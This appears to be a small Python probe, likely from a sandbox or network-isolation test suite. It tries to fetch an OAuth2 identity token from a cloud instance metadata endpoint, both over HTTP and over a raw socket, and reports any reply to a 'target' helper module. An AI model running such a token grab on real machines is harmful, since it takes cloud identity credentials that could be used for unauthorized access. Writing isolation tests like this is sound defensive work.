"""Calls the address where clouds issue tokens for the machine's identity."""

import socket
import urllib.request

import target

try:
    request = urllib.request.Request(
        f"http://{target.METADATA}/metadata/identity/oauth2/token?{target.NAME}", headers={"Metadata": "true"}
    )
    target.tell(urllib.request.urlopen(request, timeout=0.5).read())
except OSError:
    pass
try:
    with socket.create_connection((target.METADATA, 80), timeout=0.5) as connection:
        connection.sendall(target.NAME.encode())
        target.tell(connection.recv(4096))
except OSError:
    pass
target.tried()
